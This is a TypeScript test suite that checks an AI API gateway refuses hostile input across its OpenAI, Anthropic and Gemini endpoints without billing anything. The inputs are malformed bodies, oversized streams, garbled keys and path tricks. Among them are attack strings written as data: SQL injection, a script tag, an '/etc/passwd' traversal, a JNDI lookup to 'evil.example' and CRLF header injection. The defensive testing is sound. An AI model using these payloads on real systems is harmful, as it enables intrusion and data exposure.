import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, expect, it } from "vitest";
import { resetConfig } from "@/lib/config";
import { deriveSecretKeys } from "@/lib/credentials";
import { setDatabase } from "@/lib/db";
import { ERROR_CODES } from "@/lib/errors";
import { createOrder } from "@/lib/orders";
import { seed } from "@/lib/seed";
import { createTestDatabase, describeEachEngine, type TestDatabase } from "@/test/databases";
import { invalidateCatalog } from "./catalog";
import { clearKeyCache } from "./key-cache";
import { MAX_BODY_BYTES } from "./read-json-body";
import { gatewayFallback, gatewayFallbackResponse, gatewayRoute } from "./routes";

// Hostile input at the gateway, through the handlers server.ts serves (lib/gateway/routes.ts)
// with a real key on a real database: malformed or oversized bodies, wrong types, overlong and
// garbled headers, path tricks, injection-looking model names. Each is answered with a 4xx from
// the one error table in the caller's protocol shape, and nothing is spent or billed (the one
// row a refusal writes is its request-log line, which records the refusal itself).

const ENV = {
  GATEHOUSE_SECRET: "hostile-input-gatehouse-secret-0123456789abcdefgh",
  AUTH_SECRET: "hostile-input-auth-secret-0123456789abcdefghijklmn",
  MARKETPLACE_WEBHOOK_SECRET: "hostile-input-webhook-secret-0123456789abcdefgh",
  GATEHOUSE_PUBLIC_URL: "https://gate.example.com",
} as const;

type Protocol = "openai" | "anthropic" | "gemini";
const ORIGIN = "http://gateway.test";

/** The error as the protocol shapes it: its code and status, and that the shape is the protocol's. */
async function refusal(response: Response, protocol: Protocol): Promise<{ status: number; code: string }> {
  const body = (await response.json()) as Record<string, unknown>;
  const error = body.error as Record<string, unknown>;
  expect(response.headers.get("x-request-id")).toMatch(/^req_/);
  expect(response.headers.get("content-type")).toBe("application/json");
  if (protocol === "anthropic") {
    expect(body.type).toBe("error");
    expect(typeof error.type).toBe("string");
  } else if (protocol === "gemini") {
    expect(error.code).toBe(response.status);
    expect(typeof error.status).toBe("string");
  } else {
    expect(typeof error.type).toBe("string");
  }
  // Gemini bodies carry the code in their ErrorInfo detail's metadata.
  const code =
    protocol === "gemini"
      ? String((error.details as { metadata?: { code?: string } }[] | undefined)?.find((d) => d.metadata)?.metadata?.code)
      : String(error.code);
  return { status: response.status, code };
}

describeEachEngine("gateway: hostile input", (engine) => {
  let t: TestDatabase;
  let dataDir: string;
  let key: string;
  let orderId: string;
  const saved: Record<string, string | undefined> = {};

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), "gatehouse-hostile-"));
    for (const [name, value] of Object.entries({ ...ENV, GATEHOUSE_DATA_DIR: dataDir })) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
    resetConfig();
    t = await createTestDatabase(engine);
    setDatabase(t.db);
    await seed(t.db.prisma, { gatehouseSecret: ENV.GATEHOUSE_SECRET }, { demo: false });
    const created = await createOrder(t.db.prisma, {
      email: `hostile-${engine}@example.com`,
      planName: "Starter 30",
      source: "CLI",
      delivery: "handout",
      actor: { label: "cli" },
      keys: deriveSecretKeys(ENV.GATEHOUSE_SECRET),
    });
    key = created.apiKey.key!;
    orderId = created.order.id;
    clearKeyCache();
    invalidateCatalog();
  });
  afterAll(async () => {
    setDatabase(undefined);
    clearKeyCache();
    invalidateCatalog();
    await t?.drop();
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
    resetConfig();
    rmSync(dataDir, { recursive: true, force: true });
  });

  /** What money and usage look like: none of it may move on a refusal. */
  const money = async () => ({
    ledger: await t.db.prisma.ledgerEntry.count(),
    rollups: await t.db.prisma.usageDaily.count(),
    balance: (await t.db.prisma.order.findUniqueOrThrow({ where: { id: orderId }, select: { balanceMicros: true } })).balanceMicros,
    keys: await t.db.prisma.apiKey.count(),
    orders: await t.db.prisma.order.count(),
    audit: await t.db.prisma.auditLog.count(),
  });

  const ENDPOINTS: { path: string; protocol: Protocol; auth: (k: string) => Record<string, string> }[] = [
    { path: "/v1/chat/completions", protocol: "openai", auth: (k) => ({ authorization: `Bearer ${k}` }) },
    { path: "/v1/responses", protocol: "openai", auth: (k) => ({ authorization: `Bearer ${k}` }) },
    { path: "/v1/embeddings", protocol: "openai", auth: (k) => ({ authorization: `Bearer ${k}` }) },
    { path: "/v1/messages", protocol: "anthropic", auth: (k) => ({ "x-api-key": k, "anthropic-version": "2023-06-01" }) },
    { path: "/v1/messages/count_tokens", protocol: "anthropic", auth: (k) => ({ "x-api-key": k, "anthropic-version": "2023-06-01" }) },
    { path: "/v1beta/models/gemini-2.5-flash:generateContent", protocol: "gemini", auth: (k) => ({ "x-goog-api-key": k }) },
    { path: "/v1/models/gemini-2.5-flash:streamGenerateContent", protocol: "gemini", auth: (k) => ({ "x-goog-api-key": k }) },
  ];

  async function send(path: string, init: { method?: string; headers?: Record<string, string>; body?: BodyInit | null }): Promise<Response> {
    const url = new URL(path, ORIGIN);
    const method = init.method ?? "POST";
    const handler = gatewayRoute(method, url.pathname) ?? gatewayFallback(method, url.pathname);
    if (!handler) throw new Error(`no gateway handler for ${method} ${url.pathname}`);
    const headers = { "content-type": "application/json", "x-gatehouse-client-ip": "203.0.113.50", ...init.headers };
    // @ts-expect-error -- a streamed request body needs `duplex` (Node's fetch), not yet in the DOM types
    return handler(new Request(url, { method, headers, body: init.body ?? null, duplex: "half" }));
  }

  it("answers malformed JSON, non-objects and wrong types with 400 invalid_request in each protocol's shape", async () => {
    const before = await money();
    const bodies = ["", "{", "not json", "[]", "[{}]", "null", "42", '"text"', "\u0000", '{"model":', '{"model":"a","model":"b"'];
    for (const { path, protocol, auth } of ENDPOINTS) {
      for (const body of bodies) {
        const got = await refusal(await send(path, { headers: auth(key), body }), protocol);
        expect({ path, body, ...got }).toEqual({ path, body, status: 400, code: "invalid_request" });
      }
    }
    // Wrong types and missing fields where the gateway reads them (the model).
    for (const body of [{}, { model: 42 }, { model: ["gpt-4.1-mini"] }, { model: { name: "x" } }, { model: null }, { model: "" }]) {
      for (const { path, protocol, auth } of ENDPOINTS.filter((e) => e.protocol !== "gemini")) {
        const got = await refusal(
          await send(path, { headers: auth(key), body: JSON.stringify({ ...body, messages: [{ role: "user", content: "hi" }] }) }),
          protocol,
        );
        expect({ path, body, ...got }).toEqual({ path, body, status: 400, code: "invalid_request" });
      }
    }
    expect(await money()).toEqual(before);
  });

  it("answers unknown models with injection-looking names with 404 model_not_found (or 400 for a name no model can have), echoing nothing executable", async () => {
    const before = await money();
    const names = [
      "gpt-4'; DROP TABLE api_keys;--",
      "<script>alert(1)</script>",
      "../../etc/passwd",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "claude-sonnet-4-6\u0000",
      "claude-sonnet-4-6\r\nx-injected: 1",
      "gpt\u20114.1-mini",
      "ｇｐｔ-4.1-mini",
      "a".repeat(10_000),
    ];
    for (const model of names) {
      for (const { path, protocol, auth } of ENDPOINTS.filter((e) => e.protocol !== "gemini")) {
        const response = await send(path, { headers: auth(key), body: JSON.stringify({ model, messages: [{ role: "user", content: "hi" }], input: "hi" }) });
        const text = await response.clone().text();
        const got = await refusal(response, protocol);
        expect(got.status === 404 ? got.code : got.status === 400 ? got.code : `${got.status} ${got.code}`).toMatch(/^(model_not_found|invalid_request)$/);
        // Named back only inside a JSON string (escaped), in a JSON answer: no raw line break to split a log line or header.
        expect(response.headers.get("content-type")).toBe("application/json");
        expect(text).not.toContain("\r\nx-injected");
        expect(text).not.toContain("\u0000");
        expect(text.length).toBeLessThan(4_000);
      }
      // The same names in a Gemini URL.
      const response = await send(`/v1beta/models/${encodeURIComponent(model)}:generateContent`, {
        headers: { "x-goog-api-key": key },
        body: JSON.stringify({ contents: [{ parts: [{ text: "hi" }] }] }),
      });
      expect([400, 404]).toContain(response.status);
      expect((await refusal(response, "gemini")).code).toMatch(/^(model_not_found|invalid_request)$/);
    }
    expect(await money()).toEqual(before);
  });

  it("answers a body over the limit with 413 request_too_large in each protocol's shape, chunked or declared, without reading it whole", async () => {
    const before = await money();
    for (const { path, protocol, auth } of ENDPOINTS) {
      let pulled = 0;
      const chunk = new Uint8Array(4 * 1024 * 1024).fill(0x20);
      const endless = new ReadableStream<Uint8Array>({
        pull(controller) {
          pulled += chunk.byteLength;
          controller.enqueue(chunk);
        },
      });
      const got = await refusal(await send(path, { headers: auth(key), body: endless }), protocol);
      expect({ path, ...got }).toEqual({ path, status: 413, code: "request_too_large" });
      expect(pulled).toBeLessThanOrEqual(MAX_BODY_BYTES + 3 * chunk.byteLength);
      const declared = await send(path, { headers: { ...auth(key), "content-length": String(MAX_BODY_BYTES + 1) }, body: "{}" });
      expect(declared.status).toBe(413);
    }
    expect(await money()).toEqual(before);
  });

  it("answers overlong, garbled and control-character credentials with 401 and the code that names the problem", async () => {
    const before = await money();
    const cases: [Record<string, string>, string][] = [
      [{ authorization: `Bearer ${"A".repeat(64 * 1024)}` }, "invalid_api_key"],
      [{ authorization: `Bearer ${key}${"x".repeat(16 * 1024)}` }, "invalid_api_key"],
      [{ authorization: `Bearer ${key.slice(0, 20)}\u0007${key.slice(20)}` }, "api_key_invisible_characters"],
      [{ authorization: `Bearer ${key.slice(0, 20)}\u00a0${key.slice(20)}` }, "api_key_whitespace"],
      [{ authorization: `Bearer ${key.slice(0, 20)}\u007f${key.slice(20)}` }, "api_key_invisible_characters"],
      [{ authorization: "Bearer sk-gate-...abcd" }, "api_key_masked_preview"],
      [{ authorization: "Bearer sk-gate-\u00b7\u00b7\u00b7abcd" }, "api_key_masked_preview"],
      [{ authorization: "Bearer " }, "missing_api_key"],
      // Another scheme is diagnosed as the value sent: the space after "Basic" is named.
      [{ authorization: "Basic dXNlcjpwYXNz" }, "api_key_whitespace"],
      [{ "x-api-key": "sk-ant-api03-" + "a".repeat(90) }, "api_key_other_provider"],
    ];
    for (const [headers, code] of cases) {
      const response = await send("/v1/chat/completions", { headers, body: JSON.stringify({ model: "gpt-4.1-mini", messages: [] }) });
      const text = await response.clone().text();
      const got = await refusal(response, "openai");
      expect({ headers: Object.keys(headers), ...got }).toEqual({ headers: Object.keys(headers), status: 401, code: expect.any(String) });
      if (got.code !== code) expect([got.code, code]).toEqual([code, code]);
      expect(text).not.toContain(key.slice(8, 30));
      expect(text.length).toBeLessThan(4_000);
    }
    // An overlong header of another name, and one with every Latin-1 control a header may carry.
    const noisy = await send("/v1/messages", {
      headers: { "x-api-key": key, "anthropic-version": "2023-06-01", "x-padding": "p".repeat(256 * 1024), "x-controls": "\u0001\u0002\u001f\u007f" },
      body: "{",
    });
    expect(await refusal(noisy, "anthropic")).toEqual({ status: 400, code: "invalid_request" });
    expect(await money()).toEqual(before);
  });

  it("answers path tricks under /v1 and /v1beta with a JSON 404 or 405, never a page or another endpoint", async () => {
    const before = await money();
    const paths = [
      "/v1/chat/completions/",
      "/v1/chat/completions/..",
      "/v1/../v1/key",
      "/v1/chat%2Fcompletions",
      "/v1/chat/completions%00",
      "/v1/%2e%2e/api/health",
      "/v1/models/..%2F..%2Fapi%2Fhealth:generateContent",
      "/v1beta/models/%ZZ:generateContent",
      "/v1beta/models/gemini-2.5-flash:generateContent/../../key",
      "/v1beta/models/gemini-2.5-flash:deleteEverything",
      "/v1//messages",
      "/v1/messages;jsessionid=1",
      "/v1/\u202emessages",
    ];
    for (const path of paths) {
      const url = new URL(path, ORIGIN);
      // What neither answers (a trailing slash) is Next's: its catch-all route file answers the same JSON 404.
      const handler = gatewayRoute("POST", url.pathname) ?? gatewayFallback("POST", url.pathname) ?? gatewayFallbackResponse;
      const response = await handler(new Request(url, { method: "POST", headers: { authorization: `Bearer ${key}`, "x-goog-api-key": key }, body: "{}" }));
      expect({ path, status: response.status }).toEqual({ path, status: expect.any(Number) });
      expect(response.status, path).toBeGreaterThanOrEqual(400);
      expect(response.status, path).toBeLessThan(500);
      expect(response.headers.get("content-type"), path).toBe("application/json");
      const body = (await response.json()) as { error?: unknown };
      expect(body.error, path).toBeDefined();
    }
    // Other methods on an endpoint's path.
    for (const method of ["GET", "PUT", "DELETE", "PATCH"]) {
      const handler = gatewayRoute(method, "/v1/chat/completions") ?? gatewayFallback(method, "/v1/chat/completions");
      const response = await handler!(new Request(new URL("/v1/chat/completions", ORIGIN), { method }));
      expect(response.status).toBe(405);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe("method_not_allowed");
    }
    expect(await money()).toEqual(before);
  });

  it("never answers 5xx, nor moves money, for arbitrary bodies (property)", async () => {
    // A body that passes every check of the gateway goes upstream (the seeded channel, unreachable
    // here: 502), and its request is counted in the day's rollup; money never moves.
    const wallet = async () => {
      const { ledger, balance, keys, orders, audit } = await money();
      return { ledger, balance, keys, orders, audit };
    };
    const before = await wallet();
    const body = fc.oneof(
      fc.string({ unit: "binary", maxLength: 300 }),
      fc.json({ maxDepth: 3 }),
      fc
        .record({ model: fc.oneof(fc.string({ maxLength: 40 }), fc.integer(), fc.constant(null)), messages: fc.anything({ maxDepth: 2 }) })
        .map((o) => JSON.stringify(o)),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...ENDPOINTS), body, async ({ path, protocol, auth }, text) => {
        const response = await send(path, { headers: auth(key), body: text });
        // A body that names a real model and valid messages may go upstream (no channel here: 502);
        // anything else is refused by the gateway itself.
        if (response.status >= 500) {
          expect([502, 503, 504]).toContain(response.status);
          return;
        }
        expect(response.status).toBeGreaterThanOrEqual(400);
        const got = await refusal(response, protocol);
        if (protocol !== "gemini") expect(ERROR_CODES as readonly string[]).toContain(got.code);
      }),
      { numRuns: 150 },
    );
    expect(await wallet()).toEqual(before);
  });
});
